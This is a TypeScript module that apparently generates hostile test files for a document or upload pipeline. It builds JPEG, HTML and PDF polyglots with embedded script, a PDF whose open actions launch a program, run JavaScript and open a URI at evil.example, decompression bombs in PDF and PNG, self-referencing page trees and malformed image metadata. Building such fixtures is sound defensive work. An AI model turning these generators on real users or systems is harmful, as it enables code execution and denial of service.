/** Files made to hurt whoever opens them, each small on the disk. */
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { photoHeic, photoJpeg, pngChunk, pngFile } from './sample-files.ts';

const A4 = '[0 0 595 842]';

/** A web page, a script and a program for the one that takes it for such; a picture for a reader of pictures. */
export async function jpegAndWebPage(words: string): Promise<Uint8Array> {
  const photo = await photoJpeg();
  const comment = Buffer.from(`<html><script>${words}</script>%PDF-1.7`, 'latin1');
  const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  const tail = Buffer.from(`PK\x03\x04<script>${words}</script>`, 'latin1');
  return Buffer.concat([photo.subarray(0, 2), head, comment, photo.subarray(2), tail]);
}

/** Half of it would still have an end in it: that of the small picture in its head. */
export async function jpegWithWholeThumbnail(): Promise<Uint8Array> {
  const [photo, small] = [await photoJpeg(600, 400), await photoJpeg(16, 16)];
  const size = small.length + 2;
  const head = Buffer.from([0xff, 0xe1, size >> 8, size & 0xff]);
  return Buffer.concat([photo.subarray(0, 2), head, small, photo.subarray(2)]);
}

export async function webPageAndPdf(words: string): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  return Buffer.concat([Buffer.from(`<html><script>${words}</script>\n`), await document.save()]);
}

/** Starts a program, opens a site, runs a script, carries a form of XFA: when it is opened, and when it is left. */
export async function launchingPdf(words: string): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  const { context, catalog } = document;
  const launch = context.obj({ S: 'Launch', F: PDFString.of(words), NewWindow: true });
  const script = context.obj({ S: 'JavaScript', JS: PDFString.of(words) });
  const site = context.obj({ S: 'URI', URI: PDFString.of(`https://evil.example/${words}`) });
  const form = context.register(context.stream(`<xdp:xdp xmlns:xdp="${words}"></xdp:xdp>`));
  catalog.set(PDFName.of('OpenAction'), launch);
  catalog.set(PDFName.of('AA'), context.obj({ WC: script }));
  catalog.set(PDFName.of('AcroForm'), context.obj({ XFA: form, Fields: [] }));
  page.node.set(PDFName.of('AA'), context.obj({ O: site }));
  return document.save();
}

/** Nobody is asked for a password to read it; only printing and copying are locked. */
export async function lockedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ ownerPassword: 'other', permissions: {} });
  return document.save();
}

/** One page drawn by a stream that unpacks to so many megabytes. */
export function pdfOfPackedStream(megabytes: number): Uint8Array {
  return onePagePdf([stream(deflateSync(Buffer.alloc(megabytes * 1_000_000, ' ')), '/Filter /FlateDecode')]);
}

/** The same, packed so many times over. */
export function pdfOfStreamPackedAgain(megabytes: number): Uint8Array {
  const once = deflateSync(Buffer.alloc(megabytes * 1_000_000, ' '));
  return onePagePdf([stream(deflateSync(once), '/Filter [/FlateDecode /FlateDecode]')]);
}

/** One page with a picture of that many pixels a side. */
export function pdfOfLargePicture(side: number): Uint8Array {
  const picture = stream(
    deflateSync(Buffer.alloc(side * side)),
    `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode`,
  );
  return onePagePdf([stream(Buffer.from('595 0 0 842 0 0 cm /X Do'), ''), picture]);
}

/** Each form draws the next one ten times: ten to the power of its depth in the end. */
export function pdfOfFormsInForms(depth: number): Uint8Array {
  const firstForm = 5;
  const forms = Array.from({ length: depth }, (_, level) => {
    const isLast = level === depth - 1;
    const draws = isLast ? '0 0 10 10 re f' : '/X Do '.repeat(10);
    const resources = isLast ? '' : `/Resources << /XObject << /X ${firstForm + level + 1} 0 R >> >>`;
    return stream(Buffer.from(draws), `/Type /XObject /Subtype /Form /BBox ${A4} ${resources}`);
  });
  return onePagePdf([stream(Buffer.from('/X Do'), ''), ...forms]);
}

/** Its pages are the parents of their parent. */
export function pdfOfPagesInACircle(): Uint8Array {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>',
  ]);
}

/** A picture of a few pixels, whose rows unpack to so many megabytes. */
export function pngOfPackedRows(megabytes: number): Uint8Array {
  return pngFile({ width: 16, height: 16, pixels: Buffer.alloc(megabytes * 1_000_000) });
}

/** A small picture with a text that unpacks to so many megabytes. */
export function pngWithPackedText(megabytes: number): Uint8Array {
  const text = deflateSync(Buffer.alloc(megabytes * 1_000_000, 'a'));
  const chunk = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), text]));
  return pngFile({ width: 16, height: 16, extra: [chunk] });
}

/** The same in the place where its colours are explained. */
export function pngWithPackedProfile(megabytes: number): Uint8Array {
  const profile = deflateSync(Buffer.alloc(megabytes * 1_000_000));
  const chunk = pngChunk('iCCP', Buffer.concat([Buffer.from('profile\0\0', 'latin1'), profile]));
  return pngFile({ width: 16, height: 16, extra: [chunk] });
}

/** Colours explained by noise, in which more is announced than comes. */
export async function jpegWithBrokenProfile(words: string): Promise<Uint8Array> {
  const photo = await photoJpeg();
  const profile = Buffer.from(`ICC_PROFILE\0\x01\xff\xff\xff\xff\xffacsp${words}`, 'latin1');
  const head = Buffer.from([0xff, 0xe2, 0, profile.length + 2]);
  return Buffer.concat([photo.subarray(0, 2), head, profile, photo.subarray(2)]);
}

/** Says that it has so many pixels a side, and has as few as before. */
export function heicThatClaims(side: number): Uint8Array {
  const file = Buffer.from(photoHeic());
  let at = file.indexOf('ispe');
  // Box type, version and flags, then width and height (ISO/IEC 23008-12).
  for (; at >= 0; at = file.indexOf('ispe', at + 1)) {
    file.writeUInt32BE(side, at + 8);
    file.writeUInt32BE(side, at + 12);
  }
  return file;
}

function onePagePdf([content = '', ...others]: readonly string[]): Uint8Array {
  const resources = others.length === 0 ? '' : '/Resources << /XObject << /X 5 0 R >> >>';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${A4} /Contents 4 0 R ${resources} >>`,
    content,
    ...others,
  ]);
}

/** In Latin-1, a character a byte. */
function stream(content: Buffer, entries: string): string {
  return `<< /Length ${content.length} ${entries} >>\nstream\n${content.toString('latin1')}\nendstream`;
}

function pdfOf(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const start = text.length;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
